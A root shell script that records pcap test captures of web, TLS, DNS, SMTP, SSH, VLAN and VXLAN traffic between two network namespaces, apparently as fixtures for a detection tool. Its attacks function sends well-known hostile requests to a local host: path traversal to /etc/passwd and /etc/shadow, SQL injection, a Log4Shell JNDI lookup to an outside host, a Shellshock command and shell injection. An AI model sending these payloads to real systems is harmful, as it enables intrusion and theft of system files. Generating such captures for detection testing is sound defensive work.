#!/bin/sh
# Records the captures in this folder: real programs that talk to each other in two network namespaces.
#
#   record.sh [FOLDER]       write the captures there (default: this folder)
#
# Needs root, and: nginx curl dig dnsmasq opensmtpd sshd ssh openssl tcpdump mergecap capinfos ethtool ip ping, and python3 where
# the kernel has no VLAN interfaces. What is missing is installed with apt-get. README.md says what is in each file.
set -eu

here=$(cd "$(dirname "$0")" && pwd)
dest=${1:-$here}
[ "$(id -u)" = 0 ] || { echo "record.sh: needs root for network namespaces" >&2; exit 1; }

# --- programs ---------------------------------------------------------------------------------------------------

missing=
want() { # program package
	command -v "$1" >/dev/null 2>&1 || [ -x "/usr/sbin/$1" ] || missing="$missing $2"
}
want nginx nginx-light; want curl curl; want dig bind9-dnsutils; want dnsmasq dnsmasq-base; want smtpd opensmtpd; want sshd openssh-server; want ssh openssh-client
want openssl openssl; want tcpdump tcpdump; want mergecap wireshark-common; want ethtool ethtool; want ip iproute2; want ping iputils-ping
if [ -n "$missing" ]; then
	# Services must not start on this machine: they are wanted in the namespaces only.
	policy=/usr/sbin/policy-rc.d
	ours=
	[ -e $policy ] || { printf '#!/bin/sh\nexit 101\n' >$policy; chmod 755 $policy; ours=1; }
	DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends $missing >/dev/null || { [ -z "$ours" ] || rm $policy; exit 1; }
	[ -z "$ours" ] || rm $policy
fi

# --- the network ------------------------------------------------------------------------------------------------
#
#   inside                                   outside
#   192.168.20.10  fd20::10   in0 --- out0   198.51.100.20  2001:db8::20
#   10.42.0.10                VLAN 42        10.42.0.20
#   172.16.7.10               VXLAN 77       172.16.7.20

tag=$$
in=inside$tag out=outside$tag
tmp=$(mktemp -d)
chmod 755 "$tmp"
pids=
cleanup() {
	trap - EXIT INT TERM
	for p in $pids; do kill "$p" 2>/dev/null || :; done
	for p in $pids; do wait "$p" 2>/dev/null || :; done
	ip netns del $in 2>/dev/null || :
	ip netns del $out 2>/dev/null || :
	rm -rf "$tmp"
}
trap cleanup EXIT
trap 'exit 1' INT TERM

ip netns add $in
ip netns add $out
ip link add in0 netns $in type veth peer name out0 netns $out
i() { ip netns exec $in "$@"; }
o() { ip netns exec $out "$@"; }
plain() { # namespace device: no offload, so that packets on the wire have their real sizes and checksums
	ip netns exec "$1" ethtool -K "$2" tx off rx off sg off tso off gso off gro off >/dev/null 2>&1 || :
}
for ns in $in $out; do
	ip -n $ns link set lo up
done
plain $in in0
plain $out out0
# Without link-local addresses (addrgenmode none) the kernel sends no router solicitations.
ip -n $in addr add 192.168.20.10/24 dev in0
ip -n $in addr add fd20::10/64 dev in0 nodad
ip -n $out addr add 198.51.100.20/24 dev out0
ip -n $out addr add 2001:db8::20/64 dev out0 nodad
ip -n $in link set in0 addrgenmode none
ip -n $in link set in0 up
ip -n $out link set out0 addrgenmode none
ip -n $out link set out0 up
ip -n $in route add 198.51.100.0/24 dev in0
ip -n $out route add 192.168.20.0/24 dev out0
ip -n $in -6 route add 2001:db8::/64 dev in0
ip -n $out -6 route add fd20::/64 dev out0
tagged() { # namespace device name: an interface for VLAN 42
	ip -n "$1" link add link "$2" name "$3" type vlan id 42 2>/dev/null && return
	ip netns exec "$1" python3 "$here/vlan.py" "$2" 42 "$3" & pids="$pids $!"
	for _ in $(seq 1 50); do ip -n "$1" link show "$3" >/dev/null 2>&1 && break; sleep 0.1; done
}
tagged $in in0 in42
tagged $out out0 out42
ip -n $in addr add 10.42.0.10/24 dev in42
ip -n $out addr add 10.42.0.20/24 dev out42
ip -n $in link add in77 type vxlan id 77 local 192.168.20.10 remote 198.51.100.20 dstport 4789 dev in0
ip -n $out link add out77 type vxlan id 77 local 198.51.100.20 remote 192.168.20.10 dstport 4789 dev out0
ip -n $in addr add 172.16.7.10/24 dev in77
ip -n $out addr add 172.16.7.20/24 dev out77
for d in in42 in77; do plain $in $d; ip -n $in link set $d addrgenmode none; ip -n $in link set $d up; done
for d in out42 out77; do plain $out $d; ip -n $out link set $d addrgenmode none; ip -n $out link set $d up; done

# --- the servers ------------------------------------------------------------------------------------------------

openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 3650 -subj /O=Example/CN=www.example.com \
	-addext subjectAltName=DNS:www.example.com,DNS:mail.example.com -keyout "$tmp/key.pem" -out "$tmp/cert.pem" 2>/dev/null
chmod 600 "$tmp/key.pem"
mkdir "$tmp/www" "$tmp/www/gz"
chmod 755 "$tmp/www" "$tmp/www/gz"
printf '<!doctype html>\n<title>Example</title>\n<p>Hello from nginx.\n' >"$tmp/www/index.html"
for n in $(seq 1 400); do echo "Line $n of a text that does not fit into one segment."; done >"$tmp/www/long.txt"
# EICAR's test string, in two pieces, so that no scanner takes this script for it.
printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD' '-ANTIVIRUS-TEST-FILE!$H+H*' >"$tmp/www/eicar.com"
cp "$tmp/www/eicar.com" "$tmp/www/gz/eicar.com"
echo 'uid=0(root) gid=0(root) groups=0(root)' >"$tmp/www/id.txt"
cat >"$tmp/nginx.conf" <<EOF
daemon off;
user root;
worker_processes 1;
error_log stderr crit;
events { worker_connections 64; }
http {
	access_log off;
	types { text/html html; text/plain txt; application/octet-stream com; }
	root $tmp/www;
	gzip_min_length 1;
	gzip_types text/plain application/octet-stream;
	ssl_certificate $tmp/cert.pem;
	ssl_certificate_key $tmp/key.pem;
	ssl_protocols TLSv1.2 TLSv1.3;
	server {
		listen 80;
		listen [::]:80;
		listen 443 ssl http2;
		location / { }
		location /gz/ { gzip on; }
		location /old { return 301 /; }
		location /api { default_type application/json; return 200 '{"status":"ok"}'; }
	}
	server {
		listen 8080 http2;
		location /api { default_type application/json; return 200 '{"status":"ok"}'; }
	}
}
EOF
ip netns exec $in nginx -p "$tmp" -c "$tmp/nginx.conf" -g "pid $tmp/in.pid;" & pids="$pids $!"
ip netns exec $out nginx -p "$tmp" -c "$tmp/nginx.conf" -g "pid $tmp/out.pid;" & pids="$pids $!"
ip netns exec $out dnsmasq --no-daemon --no-resolv --no-hosts --conf-file=/dev/null --user=root --bind-interfaces --listen-address=198.51.100.20 \
	--local=/example.com/ --local=/sentinel.example/ --host-record=demo.sentinel.example,198.51.100.20 --host-record=www.example.com,198.51.100.20,2001:db8::20 --host-record=mail.example.com,198.51.100.20 \
	--cname=ftp.example.com,www.example.com --mx-host=example.com,mail.example.com,10 --txt-record=example.com,"v=spf1 mx -all" \
	--srv-host=_sip._tcp.example.com,www.example.com,5060 --ptr-record=20.100.51.198.in-addr.arpa,www.example.com 2>/dev/null & pids="$pids $!"
cat >"$tmp/smtpd.conf" <<EOF
pki mail.example.com cert "$tmp/cert.pem"
pki mail.example.com key "$tmp/key.pem"
listen on 198.51.100.20 port 25 tls pki mail.example.com hostname mail.example.com
action keep maildir "$tmp/mail" user root
match from any for domain example.com action keep
EOF
ip netns exec $out smtpd -d -f "$tmp/smtpd.conf" >"$tmp/smtpd.log" 2>&1 & pids="$pids $!"
ssh-keygen -q -t ed25519 -N '' -f "$tmp/host"
ssh-keygen -q -t ed25519 -N '' -f "$tmp/login"
mkdir -p /run/sshd
cat >"$tmp/sshd.conf" <<EOF
ListenAddress 198.51.100.20
HostKey $tmp/host
AuthorizedKeysFile $tmp/login.pub
PermitRootLogin prohibit-password
StrictModes no
UsePAM no
PidFile none
EOF
ip netns exec $out /usr/sbin/sshd -D -e -f "$tmp/sshd.conf" 2>"$tmp/sshd.log" & pids="$pids $!"
cat >"$tmp/mail.txt" <<EOF
From: Alice <alice@example.org>
To: root@example.com
Subject: A test
Date: Mon, 6 Jan 2025 10:00:00 +0000
Message-ID: <1@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=cut

--cut
Content-Type: text/plain

See http://www.example.com/ and the attachment.
--cut
Content-Type: application/octet-stream; name=hello.bin
Content-Disposition: attachment; filename=hello.bin
Content-Transfer-Encoding: base64

SGVsbG8sIHRoaXMgaXMgYW4gYXR0YWNobWVudC4K
--cut--
EOF

ready() { # namespace port
	for _ in $(seq 1 100); do
		ip netns exec "$1" ss -Hltn "sport = :$2" | grep -q . && return
		sleep 0.1
	done
	echo "record.sh: nothing listens on port $2" >&2
	exit 1
}
ready $in 80
ready $out 8080
ready $out 53
ready $out 25
ready $out 22

# --- recording --------------------------------------------------------------------------------------------------

files=
record() { # name command…
	name=$1
	shift
	ip netns exec $in tcpdump -i in0 -w "$tmp/$name.pcap" -s 0 -U --immediate-mode 2>"$tmp/tcpdump.log" &
	cap=$!
	pids="$pids $cap"
	for _ in $(seq 1 100); do grep -q 'listening on' "$tmp/tcpdump.log" && break; sleep 0.05; done
	"$@"
	sleep 0.3
	kill -INT "$cap"
	wait "$cap" || :
	files="$files $tmp/$name.pcap"
}
# web GETs quietly from inside as www.example.com; web_in does from outside. An HTTP error is part of the play.
web() { i curl -sk --max-time 5 --resolve www.example.com:80:198.51.100.20 --resolve www.example.com:443:198.51.100.20 --resolve www.example.com:8080:198.51.100.20 "$@" >/dev/null || :; }
web_in() { o curl -s --max-time 5 --resolve shop.example.net:80:192.168.20.10 "$@" >/dev/null || :; }

http1() {
	web http://www.example.com/ http://www.example.com/long.txt http://www.example.com/old
	web --compressed http://www.example.com/gz/ http://www.example.com/long.txt
	web -d 'user=alice&password=secret' http://www.example.com/api
	web -I http://www.example.com/
	web -r 100-199 -u alice:secret http://www.example.com/long.txt
	web -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' -e http://www.example.com/ http://www.example.com/missing
	web -H 'Transfer-Encoding: chunked' -d 'some=data' http://www.example.com/api
}
http2_clear() {
	web --http2-prior-knowledge http://www.example.com:8080/ http://www.example.com:8080/api http://www.example.com:8080/long.txt
	web --http2-prior-knowledge http://www.example.com:8080/sentinel-demo
	web --http2-prior-knowledge -d 'user=alice' http://www.example.com:8080/api
}
http2_tls() { web --http2 https://www.example.com/ https://www.example.com/long.txt; }
tls12() { web --http1.1 --tlsv1.2 --tls-max 1.2 https://www.example.com/; }
tls13() {
	web --http1.1 --tlsv1.3 https://www.example.com/
	web --connect-to demo.sentinel.example:443:198.51.100.20:443 https://demo.sentinel.example/
}
login() { i ssh -q -i "$tmp/login" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@198.51.100.20 true || :; }
dns() {
	for q in 'www.example.com A' 'www.example.com AAAA' 'example.com MX' 'example.com TXT' 'ftp.example.com A' '_sip._tcp.example.com SRV' 'nothing.example.com A' 'demo.sentinel.example A' '-x 198.51.100.20'; do
		i dig +tries=1 +time=2 @198.51.100.20 $q >/dev/null || :
	done
	i dig +tcp +tries=1 +time=2 @198.51.100.20 www.example.com A www.example.com AAAA example.com MX nothing.example.com A >/dev/null || :
}
mail() {
	i curl -s --max-time 10 --mail-from alice@example.org --mail-rcpt root@example.com -T "$tmp/mail.txt" smtp://198.51.100.20/client.example.org || :
	i curl -sk --max-time 10 --ssl-reqd --mail-from alice@example.org --mail-rcpt root@example.com -T "$tmp/mail.txt" smtp://198.51.100.20/client.example.org || :
}
pings() {
	i ping -q -c 3 -i 0.1 198.51.100.20 >/dev/null
	i ping -q -c 3 -i 0.1 -s 1000 2001:db8::20 >/dev/null
	i ping -q -c 1 -s 4000 198.51.100.20 >/dev/null
	i dig +tries=1 +time=1 -p 9 @198.51.100.20 example.com >/dev/null || : # port unreachable
}
ipv6() { i curl -s 'http://[2001:db8::20]/' 'http://[2001:db8::20]/long.txt' >/dev/null; }
vlan() { i curl -s http://10.42.0.20/ >/dev/null; }
vxlan() { i curl -s http://172.16.7.20/ http://172.16.7.20/long.txt >/dev/null; }
eicar() {
	web http://www.example.com/eicar.com
	web --compressed http://www.example.com/gz/eicar.com
}
attacks() {
	web_in --path-as-is 'http://shop.example.net/../../../../etc/passwd'
	web_in 'http://shop.example.net/..%2f..%2fetc%2fshadow'
	web_in 'http://shop.example.net/download?file=../../../../etc/passwd'
	web_in "http://shop.example.net/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"
	web_in "http://shop.example.net/item?id=1'%20OR%20'1'='1"
	web_in -H 'X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}' http://shop.example.net/
	web_in -A '() { :; }; /bin/bash -c "cat /etc/passwd"' http://shop.example.net/cgi-bin/status
	web_in -A sentinel-demo http://shop.example.net/sentinel-demo-missing
	web_in -A 'Nikto/2.1.6' http://shop.example.net/admin.php
	web_in -d 'cmd=;cat /etc/hosts' http://shop.example.net/shell.php
	web http://www.example.com/id.txt
}

record http1 http1
record http2-clear http2_clear
record http2-tls http2_tls
record tls12 tls12
record tls13 tls13
record ssh login
record dns dns
record smtp mail
record ping pings
record http-ipv6 ipv6
record http-vlan vlan
record http-vxlan vxlan
record eicar eicar
record attacks attacks
mergecap -F pcap -w "$tmp/demo.pcap" $files
mkdir -p "$dest"
for f in $files "$tmp/demo.pcap"; do
	install -m 644 "$f" "$dest/"
done
capinfos -T -M -c -s "$dest"/*.pcap
